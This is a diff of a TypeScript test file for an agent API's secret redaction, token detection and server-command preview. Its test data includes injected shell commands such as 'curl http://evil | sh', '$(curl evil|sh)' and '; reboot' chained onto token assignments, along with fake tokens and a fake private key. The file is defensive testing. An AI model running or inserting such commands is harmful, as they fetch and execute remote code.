@@ -4,7 +4,7 @@ import { createRedactor } from '../../../packages/agent-api/src/redaction/redact
 import { sealSecrets } from '../../../packages/agent-api/src/secret-store/seal-secrets.ts'
 import { secretsOf } from '../../../packages/agent-api/src/mcp/secrets-of.ts'
 import { spansOfArgument } from '../../../packages/agent-api/src/redaction/secret-spans.ts'
-import { previewServer } from '../../../packages/agent-api/src/servers/stored/preview-server.ts'
+import { previewServer } from '../../../packages/workbench/src/servers/stored/preview-server.ts'
 import { toServerOrigin } from '../../../packages/agent-api/src/mcp/server-origin.ts'
 
 const shown = (argument: string, before?: string) => {
@@ -21,7 +21,10 @@ const token = 'ghp_abcdefABCDEF0123456789abcdefABCDEF01'
 
 describe('the secrets in an argument', () => {
   it.each([
-    ['API_TOKEN=abc123def456; touch PWNED; curl http://evil | sh', 'API_TOKEN=#; touch PWNED; curl http://evil | sh'],
+    [
+      'API_TOKEN=abc123def456; touch PWNED; curl http://evil | sh',
+      'API_TOKEN=#; touch PWNED; curl http://evil | sh',
+    ],
     ['API_TOKEN=abc;touch${IFS}PWNED', 'API_TOKEN=#;touch${IFS}PWNED'],
     ['API_TOKEN=abc|sh', 'API_TOKEN=#|sh'],
     ['API_TOKEN=$(curl evil|sh)', 'API_TOKEN=$(curl evil|sh)'],
@@ -86,8 +89,10 @@ describe('the secrets in an argument', () => {
             const value = text.slice(start, end)
             if (start === 0 && end === text.length) continue
             expect(value).not.toMatch(/[;|&<>()$`\r\n]/)
-            const isQuoted = /["']/.test(text.charAt(start - 1)) && text.charAt(end) === text.charAt(start - 1)
-            const isAfterScheme = /["'](?:bearer|token) $/i.test(text.slice(0, start)) || text.startsWith('Bearer ')
+            const isQuoted =
+              /["']/.test(text.charAt(start - 1)) && text.charAt(end) === text.charAt(start - 1)
+            const isAfterScheme =
+              /["'](?:bearer|token) $/i.test(text.slice(0, start)) || text.startsWith('Bearer ')
             if (!isQuoted && !isAfterScheme) expect(value).not.toMatch(/\s/)
           }
         }
@@ -99,7 +104,9 @@ describe('the secrets in an argument', () => {
   it('are all that is left out of a question', () => {
     const args = ['-c', 'API_TOKEN=abc123def456; touch PWNED; curl http://evil | sh']
     const asked = `sh -c 'API_TOKEN=[redacted]; touch PWNED; curl http://evil | sh'`
-    expect(previewServer({ name: 's', entry: { type: 'stdio', command: 'sh', args } }, {}).commandLine).toBe(asked)
+    expect(previewServer({ name: 's', entry: { type: 'stdio', command: 'sh', args } }, {}).commandLine).toBe(
+      asked,
+    )
     const redactor = createRedactor()
     // A variable whose value is part of the command.
     redactor.add('; touch PWNED; curl http://evil | sh')
@@ -139,23 +146,31 @@ describe('tokens of known vendors', () => {
       env: { NOTE: `is ${secret}, no` },
     } as const
     expect(secretsOf(stdio)).toEqual([secret])
-    expect(secretsOf({ type: 'http', name: 's', url: `https://h/a/x:${secret}/b?x=${secret}`, headers: { 'X-Note': secret } })).toContain(
-      secret,
-    )
+    expect(
+      secretsOf({
+        type: 'http',
+        name: 's',
+        url: `https://h/a/x:${secret}/b?x=${secret}`,
+        headers: { 'X-Note': secret },
+      }),
+    ).toContain(secret)
     const { sealed, secrets } = sealSecrets({ ...stdio })
     expect(JSON.stringify(sealed)).not.toContain(secret)
     expect(Object.values(secrets)).toEqual([secret, secret])
   })
 
   it('are not words', () => {
-    const words = 'task-force-one sk-learn-more-of-it high_level npm_config_user_agent shelf_of_books AKIA eyJ. SG.x.y risk-management-2024'
+    const words =
+      'task-force-one sk-learn-more-of-it high_level npm_config_user_agent shelf_of_books AKIA eyJ. SG.x.y risk-management-2024'
     expect(shown(words)).toBe(words)
   })
 
   it('and private keys: completely in a value, line by line in a command', () => {
     const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'
     const key = `-----BEGIN RSA PRIVATE KEY-----\n${line}\n${line}\n-----END RSA PRIVATE KEY-----`
-    expect(shown(`echo '${key}'; reboot`)).toBe(`echo '-----BEGIN RSA PRIVATE KEY-----\n#\n#\n-----END RSA PRIVATE KEY-----'; reboot`)
+    expect(shown(`echo '${key}'; reboot`)).toBe(
+      `echo '-----BEGIN RSA PRIVATE KEY-----\n#\n#\n-----END RSA PRIVATE KEY-----'; reboot`,
+    )
     expect(sealSecrets({ type: 'stdio', env: { NOTE: `a ${key}` } }).secrets).toEqual({ 'env.NOTE': key })
   })
 })
